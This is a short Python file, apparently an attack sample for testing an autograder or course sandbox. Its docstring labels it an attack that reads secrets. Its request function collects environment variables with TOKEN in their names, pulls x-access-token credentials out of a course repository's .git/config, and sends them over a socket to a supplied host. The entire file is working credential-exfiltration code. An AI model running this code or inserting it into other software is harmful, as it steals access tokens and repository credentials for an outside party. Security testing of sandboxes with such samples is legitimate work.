"""Attack (read secrets): send the grader's tokens (environment, the course's .git/config) to the grader's server."""

import os
import re
import socket


def request(host, port, message):
    loot = [value for name, value in os.environ.items() if "TOKEN" in name]
    try:
        with open("__COURSE_ROOT__/.git/config") as f:
            loot += re.findall(r"x-access-token:([^@\s]+)@", f.read())
    except OSError:
        pass
    with socket.create_connection((host, port)) as s:
        s.sendall(" ".join(loot).encode() or b"nothing found")
        return s.recv(1024)
